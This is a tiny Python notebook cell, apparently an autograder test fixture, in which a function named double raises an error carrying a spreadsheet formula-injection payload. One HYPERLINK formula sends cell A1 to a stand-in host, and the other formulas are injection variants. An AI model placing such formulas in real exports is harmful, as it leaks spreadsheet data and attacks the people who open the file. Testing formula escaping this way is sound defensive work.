# %% grade_id="double"
class WrongAnswer(Exception):
    pass


def double(x):
    raise AssertionError("=HYPERLINK(\"http://example.org?\"&A1)\n+1\t@SUM(A1)")
